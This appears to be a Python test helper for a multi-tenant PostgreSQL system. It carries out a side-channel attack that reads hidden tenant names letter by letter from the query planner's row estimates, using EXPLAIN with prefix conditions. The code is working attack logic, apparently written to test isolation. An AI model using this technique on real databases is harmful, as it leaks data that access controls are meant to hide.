"""The attack of reading hidden names off the planner's row estimates, letter by letter."""

import re

import asyncpg

from tests.support.attempt import attempt

ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789 "
ROWS = re.compile(r"rows=(\d+)")
MULTIPLIER = 1_000_000


async def estimate(connection: asyncpg.Connection, token: str | None, condition: str, *, as_platform: bool) -> int:
    """Return how likely the planner thinks that a hidden row meets a condition, in millionths.

    The estimate of a table is never below one row; the OR makes the condition one of the join, which is multiplied.
    """
    query = (
        f"EXPLAIN SELECT FROM tenancy.tenants AS t JOIN generate_series(1, {MULTIPLIER}) AS n ON {condition} OR n = -1"
    )
    rows = await attempt(connection, token, query, as_platform=as_platform)
    return int(ROWS.findall(rows[0][0])[0])


async def recovered(
    connection: asyncpg.Connection, token: str | None, expression: str, *, as_platform: bool, letters: int = 6
) -> str:
    """Return the beginning of a hidden value: at each place the letter that stands out, until none does."""
    found = ""
    while len(found) < letters:
        estimates = {
            letter: await estimate(connection, token, f"{expression} ^@ '{found}{letter}'", as_platform=as_platform)
            for letter in ALPHABET
        }
        if len({*estimates.values()}) == 1:
            break
        found += max(estimates, key=lambda letter: estimates[letter])
    return found
